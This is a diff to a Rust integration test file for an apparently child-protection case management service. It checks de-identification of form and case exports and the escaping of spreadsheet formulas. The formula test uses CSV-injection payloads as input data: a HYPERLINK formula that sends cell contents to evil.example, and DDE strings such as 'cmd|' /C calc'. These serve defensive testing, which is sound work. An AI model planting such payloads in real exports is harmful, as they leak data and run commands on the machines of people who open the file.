@@ -61,6 +61,16 @@ fn header(text: &str) -> Vec<String> {
         .collect()
 }
 
+/// The terms of an identifying export (a disclosure to a court).
+const IDENTIFYING: &str = "identifying=true&legal_basis=required_by_law\
+    &provision=Code%20on%20Marriage%20art.%2076&recipient=Almaty%20district%20court\
+    &purpose=court%20report%20for%20case%201";
+
+/// A pseudonym of a de-identified export: 16 hex digits.
+fn is_pseudonym(cell: &str) -> bool {
+    cell.len() == 16 && cell.bytes().all(|b| b.is_ascii_hexdigit())
+}
+
 #[test]
 fn form_exports_are_deidentified_unless_a_coordinator_states_a_purpose() {
     let app = TestApp::spawn();
@@ -116,11 +126,24 @@ fn form_exports_are_deidentified_unless_a_coordinator_states_a_purpose() {
     assert!(!columns
         .iter()
         .any(|h| h == "child/child_name" || h == "child/child_dob"));
+    // The edit (Kazakh only), not the original; the submission and its
+    // case by this export's pseudonyms, times by their day.
     let timur = records
         .iter()
-        .find(|r| r[col("instance_id")] == *edit["instance_id"].as_str().unwrap())
+        .find(|r| &r[col("child/child_languages")] == "kk")
         .expect("the edit, not the original");
-    assert_eq!(&timur[col("case_number")], "1");
+    assert!(is_pseudonym(&timur[col("case_number")]), "{timur:?}");
+    assert!(is_pseudonym(&timur[col("instance_id")]), "{timur:?}");
+    assert_ne!(timur[col("case_number")], timur[col("instance_id")]);
+    assert_eq!(timur[col("received_at")].len(), "2026-11-20".len());
+    for id in [
+        first.as_str(),
+        second.as_str(),
+        original["instance_id"].as_str().unwrap(),
+        edit["instance_id"].as_str().unwrap(),
+    ] {
+        assert!(!text.contains(id), "{id} in a de-identified export");
+    }
     assert_eq!(&timur[col("site")], "KZ-CAM-ALA");
     assert_eq!(&timur[col("submitted_by")], "aigerim");
     assert_eq!(&timur[col("child/child_sex")], "female");
@@ -250,7 +273,23 @@ fn the_case_export_has_a_row_per_case_with_its_facts_and_deadlines() {
             .position(|h| h == name)
             .unwrap_or_else(|| panic!("{name} in {columns:?}"))
     };
-    let numbers: Vec<&str> = records.iter().map(|r| &r[col("case_number")]).collect();
+    // De-identified: each case by this export's pseudonym, in both its
+    // columns; opened by the day.
+    for r in &records {
+        assert!(is_pseudonym(&r[col("case_number")]), "{r:?}");
+        assert_eq!(r[col("case_id")], r[col("case_number")]);
+        assert_eq!(r[col("opened_at")].len(), "2026-11-20".len(), "{r:?}");
+    }
+    assert_ne!(records[0][col("case_id")], records[1][col("case_id")]);
+    let identifying = app.get(
+        &format!("/api/v1/exports/cases.csv?programme=kz&{IDENTIFYING}"),
+        &coordinator,
+    );
+    assert_eq!(identifying.status, 200, "{}", identifying.text);
+    let numbers: Vec<String> = rows(&identifying.text)
+        .iter()
+        .map(|r| r[col("case_number")].to_string())
+        .collect();
     assert_eq!(numbers, ["1", "2"]);
     for r in &records {
         assert_eq!(&r[col("state")], "referred");
@@ -466,8 +505,12 @@ fn a_new_form_version_gives_the_union_of_columns_and_the_zip_joins_repeat_groups
     let res = phone.send(&new);
     assert_eq!(res.status, 201, "{}", res.text);
 
-    // The CSV: both versions' fields, the newest version's order first.
-    let res = app.get("/api/v1/exports/forms/kz.referral.csv", &coordinator);
+    // The CSV: both versions' fields, the newest version's order first
+    // (identifying: the religion is free text, left out when not).
+    let res = app.get(
+        &format!("/api/v1/exports/forms/kz.referral.csv?{IDENTIFYING}"),
+        &coordinator,
+    );
     assert_eq!(res.status, 200, "{}", res.text);
     let columns = header(&res.text);
     let records = rows(&res.text);
@@ -507,18 +550,23 @@ fn a_new_form_version_gives_the_union_of_columns_and_the_zip_joins_repeat_groups
         ))
         .execute(&mut app.conn())
         .unwrap();
-    let again = app.get("/api/v1/exports/forms/kz.referral.csv", &coordinator);
+    let again = app.get(
+        &format!("/api/v1/exports/forms/kz.referral.csv?{IDENTIFYING}"),
+        &coordinator,
+    );
     assert_eq!(again.text, res.text);
     // Without a second connection to read on, one reads it all: same file.
     use casesync::exports::{forms as form_exports, Scope};
     let mut conn = app.conn();
-    let plan = form_exports::plan(
-        &mut conn,
-        &Scope::shell(),
-        "kz.referral",
-        &Default::default(),
-    )
-    .unwrap();
+    let terms = form_exports::FormFilter {
+        identifying: Some(true),
+        legal_basis: Some("required_by_law".into()),
+        provision: Some("Code on Marriage art. 76".into()),
+        recipient: Some("Almaty district court".into()),
+        purpose: Some("court report for case 1".into()),
+        ..Default::default()
+    };
+    let plan = form_exports::plan(&mut conn, &Scope::shell(), "kz.referral", &terms).unwrap();
     let mut alone = Vec::new();
     form_exports::write(&mut conn, None, &plan, |chunk| {
         alone.extend(chunk);
@@ -528,24 +576,20 @@ fn a_new_form_version_gives_the_union_of_columns_and_the_zip_joins_repeat_groups
     assert_eq!(String::from_utf8(alone).unwrap(), res.text);
     // Only one version when asked.
     let only = app.get(
-        "/api/v1/exports/forms/kz.referral.csv?version=2026.2",
+        &format!("/api/v1/exports/forms/kz.referral.csv?version=2026.2&{IDENTIFYING}"),
         &coordinator,
     );
     assert_eq!(rows(&only.text).len(), 1);
 
     // The .zip: the same CSV, plus one file per repeat group whose rows
     // point at their submission.
-    let res = app.get("/api/v1/exports/forms/kz.referral.zip", &coordinator);
+    let res = app.get(
+        &format!("/api/v1/exports/forms/kz.referral.zip?{IDENTIFYING}"),
+        &coordinator,
+    );
     assert_eq!(res.status, 200, "{}", res.text);
     assert_eq!(res.header("content-type"), Some("application/zip"));
-    let mut archive = zip::ZipArchive::new(std::io::Cursor::new(res.bytes.clone())).unwrap();
-    let mut files = std::collections::BTreeMap::new();
-    for i in 0..archive.len() {
-        let mut file = archive.by_index(i).unwrap();
-        let mut text = String::new();
-        std::io::Read::read_to_string(&mut file, &mut text).unwrap();
-        files.insert(file.name().to_string(), text);
-    }
+    let files = unzip(&res.bytes);
     assert!(
         files.contains_key("kz.referral-child-siblings.csv"),
         "{:?}",
@@ -584,12 +628,451 @@ fn a_new_form_version_gives_the_union_of_columns_and_the_zip_joins_repeat_groups
             (first.to_string(), format!("{first}/parents_legal_reps[2]")),
         ]
     );
-    // De-identified like the CSV: no name of a parent, sibling or child.
+    // De-identified like the CSV: no name of a parent, sibling or child;
+    // the repeat files join the main one by the submission's pseudonym.
+    let res = app.get("/api/v1/exports/forms/kz.referral.zip", &coordinator);
+    assert_eq!(res.status, 200, "{}", res.text);
+    let files = unzip(&res.bytes);
     let everything: String = files.values().cloned().collect();
     for value in direct_values(&old["data"])
         .into_iter()
         .chain(["Mother D".to_string(), "Sibling B".to_string()])
+        .chain([first.to_string()])
     {
         assert!(!everything.contains(&value), "{value:?} in the zip");
+    }
+    let main: Vec<String> = rows(&files["kz.referral.csv"])
+        .iter()
+        .map(|r| r[0].to_string())
+        .collect();
+    let parents = &files["kz.referral-parents_legal_reps.csv"];
+    let width = header(parents).len();
+    for r in rows(parents) {
+        assert!(main.contains(&r[width - 2].to_string()), "{r:?}");
+        assert!(r[width - 1].starts_with(&r[width - 2]), "{r:?}");
+    }
+}
+
+/// The files of a .zip export by name.
+fn unzip(bytes: &[u8]) -> std::collections::BTreeMap<String, String> {
+    let mut archive = zip::ZipArchive::new(std::io::Cursor::new(bytes.to_vec())).unwrap();
+    let mut files = std::collections::BTreeMap::new();
+    for i in 0..archive.len() {
+        let mut file = archive.by_index(i).unwrap();
+        let mut text = String::new();
+        std::io::Read::read_to_string(&mut file, &mut text).unwrap();
+        files.insert(file.name().to_string(), text);
+    }
+    files
+}
+
+/// A cell of `records` by its column's name.
+fn cell_of<'a>(columns: &[String], record: &'a csv::StringRecord, name: &str) -> &'a str {
+    let i = columns
+        .iter()
+        .position(|h| h == name)
+        .unwrap_or_else(|| panic!("no column {name} in {columns:?}"));
+    &record[i]
+}
+
+/// #14 item 9: what a spreadsheet would run as a formula reaches every
+/// CSV neutralised (`'` first, quoted); whole numbers stay numbers;
+/// `formula_escape=false` gives scripts the values as they are, and says
+/// so on the audit row and in the disclosure log.
+#[test]
+fn formulas_are_neutralised_in_every_csv_unless_a_script_asks() {
+    let app = TestApp::spawn();
+    let admin = app.admin_token();
+    let (_, worker) = app.user(&admin, "aigerim", "field_worker", &["KZ-CAM-ALA"]);
+    let (_, coordinator) = app.user(&admin, "manager", "coordinator", &["KZ-CAM-ALA"]);
+    let (_, analyst) = app.user(&admin, "analyst", "analyst", &["KZ-CAM-ALA"]);
+    let phone = phone(&app, &worker);
+    let link = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Open\")";
+    let calc = "@SUM(1+1)*cmd|' /C calc'!A0";
+    let case_id = uuid::Uuid::new_v4().to_string();
+    let mut envelope = referral(&case_id, link);
+    envelope["device_id"] = json!(link);
+    let child = &mut envelope["data"]["child"];
+    child["concern_description"] = json!(calc);
+    child["evidence_description"] = json!("-3");
+    child["current_care_situation"] = json!("+7");
+    child["other_relevant_info"] = json!("-3 days in care");
+    envelope["data"]["parents_legal_reps"][0]["name"] = json!("+cmd|' /C calc'!A0");
+    let res = phone.send(&envelope);
+    assert_eq!(res.status, 201, "{}", res.text);
+    // A fact from free text, for the case export.
+    let mut assessment = fixture("kz.initial_assessment");
+    assessment["scope"]["identity"]["ethnicity"] = json!(link);
+    let res = phone.send(&form_envelope(
+        "kz.initial_assessment",
+        &case_id,
+        assessment,
+    ));
+    assert_eq!(res.status, 201, "{}", res.text);
+
+    // De-identified (the analyst's): the phone's device id is neutralised.
+    let res = app.get("/api/v1/exports/forms/kz.referral.csv", &analyst);
+    assert_eq!(res.status, 200, "{}", res.text);
+    let columns = header(&res.text);
+    let record = &rows(&res.text)[0];
+    assert_eq!(cell_of(&columns, record, "device_id"), format!("'{link}"));
+    assert!(res
+        .text
+        .contains(&format!("\"'{}\"", link.replace('"', "\"\""))));
+
+    // Identifying, in the CSV and the .zip's repeat files.
+    let res = app.get(
+        &format!("/api/v1/exports/forms/kz.referral.csv?{IDENTIFYING}"),
+        &coordinator,
+    );
+    assert_eq!(res.status, 200, "{}", res.text);
+    let columns = header(&res.text);
+    let record = &rows(&res.text)[0];
+    let cell = |name: &str| cell_of(&columns, record, name).to_string();
+    assert_eq!(cell("child/child_name"), format!("'{link}"));
+    assert_eq!(cell("child/concern_description"), format!("'{calc}"));
+    assert_eq!(cell("child/other_relevant_info"), "'-3 days in care");
+    // Entirely numbers: left as they are (docs/api.md).
+    assert_eq!(cell("child/evidence_description"), "-3");
+    assert_eq!(cell("child/current_care_situation"), "+7");
+    assert!(!res
+        .text
+        .lines()
+        .any(|l| l.starts_with('=') || l.contains(",=") || l.contains(",@") || l.contains(",+c")));
+    let zip = app.get(
+        &format!("/api/v1/exports/forms/kz.referral.zip?{IDENTIFYING}"),
+        &coordinator,
+    );
+    let files = unzip(&zip.bytes);
+    let parents = &files["kz.referral-parents_legal_reps.csv"];
+    assert_eq!(
+        cell_of(&header(parents), &rows(parents)[0], "name"),
+        "'+cmd|' /C calc'!A0"
+    );
+    assert_eq!(files["kz.referral.csv"], res.text);
+
+    // A script's export: as they are, and on record as such.
+    let raw = app.get(
+        &format!("/api/v1/exports/forms/kz.referral.csv?{IDENTIFYING}&formula_escape=false"),
+        &coordinator,
+    );
+    assert_eq!(raw.status, 200, "{}", raw.text);
+    let columns = header(&raw.text);
+    let record = &rows(&raw.text)[0];
+    assert_eq!(cell_of(&columns, record, "child/child_name"), link);
+    assert_eq!(cell_of(&columns, record, "child/concern_description"), calc);
+    let details: Vec<Option<String>> = audit_log::table
+        .filter(audit_log::action.eq("form_exported"))
+        .order(audit_log::id.asc())
+        .select(audit_log::detail)
+        .load(&mut app.conn())
+        .unwrap();
+    let last = details.last().unwrap().clone().unwrap();
+    assert!(
+        last.ends_with("; formulas not escaped (formula_escape=false)"),
+        "{last}"
+    );
+    assert!(!details[0]
+        .as_deref()
+        .unwrap()
+        .contains("formulas not escaped"));
+    let log = app.get("/api/v1/disclosures", &coordinator);
+    assert!(log.body["items"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .any(|d| d["what"]
+            .as_str()
+            .unwrap()
+            .ends_with("formulas not escaped (formula_escape=false)")));
+    app.get(
+        "/api/v1/exports/forms/kz.referral.csv?formula_escape=perhaps",
+        &analyst,
+    )
+    .assert_problem(400, "bad_request");
+
+    // The case export (the child's name is a fact) and the audit log's
+    // CSV (a purpose is people's words).
+    let purpose = "=HYPERLINK(\"http://evil.example\") for the court";
+    let res = app.get(
+        &format!(
+            "/api/v1/exports/cases.csv?programme=kz&identifying=true\
+             &legal_basis=unicef_me&recipient=UNICEF&purpose={}",
+            purpose
+                .replace('%', "%25")
+                .replace(' ', "%20")
+                .replace('"', "%22")
+                .replace('=', "%3D")
+                .replace('(', "%28")
+                .replace(')', "%29")
+                .replace(':', "%3A")
+                .replace('/', "%2F")
+        ),
+        &coordinator,
+    );
+    assert_eq!(res.status, 200, "{}", res.text);
+    assert_eq!(
+        cell_of(&header(&res.text), &rows(&res.text)[0], "child.ethnicity"),
+        format!("'{link}")
+    );
+    let audit = app.get("/api/v1/exports/audit.csv", &admin);
+    assert_eq!(audit.status, 200, "{}", audit.text);
+    let columns = header(&audit.text);
+    let purposes: Vec<String> = rows(&audit.text)
+        .iter()
+        .map(|r| cell_of(&columns, r, "purpose").to_string())
+        .collect();
+    assert!(purposes.contains(&format!("'{purpose}")), "{purposes:?}");
+    let audit = app.get("/api/v1/exports/audit.csv?formula_escape=false", &admin);
+    let purposes: Vec<String> = rows(&audit.text)
+        .iter()
+        .map(|r| cell_of(&columns, r, "purpose").to_string())
+        .collect();
+    assert!(purposes.contains(&purpose.to_string()), "{purposes:?}");
+    let exported: Vec<Option<String>> = audit_log::table
+        .filter(audit_log::action.eq("audit_exported"))
+        .order(audit_log::id.asc())
+        .select(audit_log::detail)
+        .load(&mut app.conn())
+        .unwrap();
+    assert!(exported[1]
+        .as_deref()
+        .unwrap()
+        .ends_with("formulas not escaped (formula_escape=false)"));
+
+    // From the shell: escaped unless --no-formula-escape, which is audited.
+    let run = |args: &[&str]| {
+        common::bin::command(app.data_dir(), &app.shared.db)
+            .env("CASESYNC_DATA_DIR", app.data_dir())
+            .args(args)
+            .output()
+            .unwrap()
+    };
+    let out = app.data_dir().join("referrals.csv");
+    for (flag, expected) in [
+        (None, format!("'{link}")),
+        (Some("--no-formula-escape"), link.to_string()),
+    ] {
+        let mut args = vec![
+            "export",
+            "forms",
+            "kz.referral",
+            "--out",
+            out.to_str().unwrap(),
+        ];
+        args.extend(flag);
+        let done = run(&args);
+        assert!(
+            done.status.success(),
+            "{}",
+            String::from_utf8_lossy(&done.stderr)
+        );
+        let text = std::fs::read_to_string(&out).unwrap();
+        assert_eq!(
+            cell_of(&header(&text), &rows(&text)[0], "device_id"),
+            expected
+        );
+    }
+    let details: Vec<Option<String>> = audit_log::table
+        .filter(audit_log::action.eq("exported"))
+        .select(audit_log::detail)
+        .load(&mut app.conn())
+        .unwrap();
+    assert!(details.contains(&Some(
+        "form kz.referral, de-identified; formulas not escaped (formula_escape=false)".into()
+    )));
+}
+
+/// Every answer in `data` a de-identified export must not carry: the
+/// text of direct identifiers and of free-text fields (narratives, places,
+/// references, file names) of `form_id`, as its fields are classed.
+fn identifying_and_free_text(form_id: &str, data: &Value) -> Vec<String> {
+    use casesync::exports::columns::Class;
+    let set = definitions::shipped();
+    let file = set
+        .forms
+        .iter()
+        .find(|f| f.document["x-form"]["id"] == form_id)
+        .unwrap();
+    let form = check::check(&file.document, &set.resources).unwrap();
+    fn strings(v: &Value, out: &mut Vec<String>) {
+        match v {
+            // Codes (`mother`, `other`) are choices' values, kept by right.
+            Value::String(s)
+                if s.len() >= 4
+                    && !s
+                        .bytes()
+                        .all(|b| b.is_ascii_lowercase() || b.is_ascii_digit() || b == b'_') =>
+            {
+                out.push(s.clone())
+            }
+            Value::Array(items) => items.iter().for_each(|i| strings(i, out)),
+            Value::Object(map) => map.values().for_each(|i| strings(i, out)),
+            _ => {}
+        }
+    }
+    let mut out = Vec::new();
+    for field in &form.fields {
+        if matches!(
+            Class::of(field.pii, field.kind),
+            Class::Direct | Class::FreeText
+        ) {
+            for (_, value) in field.values_in(data) {
+                strings(value, &mut out);
+            }
+        }
+    }
+    out
+}
+
+/// #14 item 10: one realistic case of each programme, every form of it
+/// exported de-identified (CSV and .zip with repeat groups) and the case
+/// export: no identifying or free-text answer, no day of an event, no time
+/// of day, no case number, case id or submission id anywhere; the case
+/// by one pseudonym within an export and another in the next.
+#[test]
+fn deidentified_exports_carry_no_identifying_or_free_text_value_of_a_realistic_case() {
+    let app = TestApp::spawn();
+    let admin = app.admin_token();
+    let (_, kz_worker) = app.user(&admin, "aigerim", "field_worker", &["KZ-CAM-ALA"]);
+    let (_, bt_worker) = app.user(&admin, "karma", "field_worker", &["BT-NCWC"]);
+    let (_, coordinator) = app.user(&admin, "manager", "coordinator", &["KZ-CAM-ALA", "BT-NCWC"]);
+    let (_, analyst) = app.user(&admin, "analyst", "analyst", &["KZ-CAM-ALA", "BT-NCWC"]);
+    let programmes = [
+        (
+            "kz",
+            common::phone::phone_for(&app, &kz_worker, "kz"),
+            vec![
+                "kz.referral",
+                "kz.case_intake",
+                "kz.child",
+                "kz.initial_assessment",
+                "kz.social_assessment",
+                "kz.cp_meeting",
+                "kz.care_plan",
+                "kz.family_tracing",
+            ],
+        ),
+        (
+            "bt",
+            common::phone::phone_for(&app, &bt_worker, "bt"),
+            vec![
+                "bt.registration",
+                "bt.assessment",
+                "bt.case_plan",
+                "bt.follow_up",
+                "bt.review",
+                "bt.case_closure",
+            ],
+        ),
+    ];
+    let time_of_day = |cell: &str| {
+        cell.as_bytes().windows(5).any(|w| {
+            w[0].is_ascii_digit() && w[1].is_ascii_digit() && w[2] == b':' && w[3].is_ascii_digit()
+        })
+    };
+    const DAY_COLUMNS: [&str; 5] = [
+        "started_at",
+        "completed_at",
+        "received_at",
+        "opened_at",
+        "closed_at",
+    ];
+    for (programme, phone, forms) in programmes {
+        let case_id = uuid::Uuid::new_v4().to_string();
+        let mut forbidden = vec![case_id.clone()];
+        for form_id in &forms {
+            let data = fixture(form_id);
+            let envelope = form_envelope(form_id, &case_id, data.clone());
+            let res = phone.send(&envelope);
+            assert_eq!(res.status, 201, "{form_id}: {}", res.text);
+            forbidden.push(envelope["instance_id"].as_str().unwrap().to_string());
+            forbidden.extend(identifying_and_free_text(form_id, &data));
+        }
+        let case = app.get(&format!("/api/v1/cases/{case_id}"), &coordinator);
+        assert_eq!(case.status, 200, "{}", case.text);
+        let number = case.body["number"].as_str().unwrap_or_default().to_string();
+        if number.len() >= 4 {
+            forbidden.push(number.clone());
+        }
+        // Not vacuous: the narratives the issue names are among them.
+        if programme == "kz" {
+            for narrative in [
+                "Found alone at the bus station at night; says her mother works abroad.",
+                "Report of the patrol officer.",
+                "Crossed the border with an aunt three months ago; status not regularised.",
+                "Child A",
+            ] {
+                assert!(forbidden.iter().any(|v| v == narrative), "{narrative}");
+            }
+        }
+        // The row's site is said by right (a BT agency is named like it).
+        forbidden.retain(|v| {
+            !["KZ-CAM-ALA", "BT-NCWC"]
+                .iter()
+                .any(|site| site.contains(v.as_str()))
+        });
+        assert!(forbidden.len() > 40, "{programme}: {}", forbidden.len());
+
+        let mut files: Vec<(String, String)> = Vec::new();
+        for form_id in &forms {
+            let res = app.get(&format!("/api/v1/exports/forms/{form_id}.zip"), &analyst);
+            assert_eq!(res.status, 200, "{form_id}: {}", res.text);
+            let unzipped = unzip(&res.bytes);
+            // The repeat files join the main one by its pseudonyms.
+            let main = &unzipped[&format!("{form_id}.csv")];
+            let instances: Vec<String> = rows(main).iter().map(|r| r[0].to_string()).collect();
+            for (name, text) in &unzipped {
+                if name == &format!("{form_id}.csv") {
+                    continue;
+                }
+                let width = header(text).len();
+                for r in rows(text) {
+                    assert!(
+                        instances
+                            .iter()
+                            .any(|i| r[width - 2].starts_with(i.as_str())),
+                        "{name}: {r:?}"
+                    );
+                }
+            }
+            files.extend(unzipped);
+        }
+        let cases = app.get(
+            &format!("/api/v1/exports/cases.csv?programme={programme}"),
+            &analyst,
+        );
+        assert_eq!(cases.status, 200, "{}", cases.text);
+        files.push(("cases.csv".into(), cases.text.clone()));
+
+        for (name, text) in &files {
+            for value in &forbidden {
+                assert!(!text.contains(value.as_str()), "{value:?} in {name}");
+            }
+            let columns = header(text);
+            for r in rows(text) {
+                for (column, cell) in columns.iter().zip(r.iter()) {
+                    assert!(!time_of_day(cell), "{name} {column}: a time {cell:?}");
+                    if cell.len() >= 10 && cell[..10].parse::<chrono::NaiveDate>().is_ok() {
+                        assert!(
+                            DAY_COLUMNS.contains(&column.as_str()) && cell.len() == 10,
+                            "{name} {column}: a day {cell:?}"
+                        );
+                    }
+                    if column == "case_number" || column == "case_id" || column == "instance_id" {
+                        assert!(is_pseudonym(cell), "{name} {column}: {cell:?}");
+                        assert_ne!(cell, number.as_str());
+                    }
+                }
+            }
+        }
+        // The same case: one pseudonym throughout the case export, another
+        // in the next export.
+        let first_export = rows(&cases.text)[0][1].to_string();
+        let again = app.get(
+            &format!("/api/v1/exports/cases.csv?programme={programme}"),
+            &analyst,
+        );
+        assert_ne!(rows(&again.text)[0][1], first_export);
     }
 }
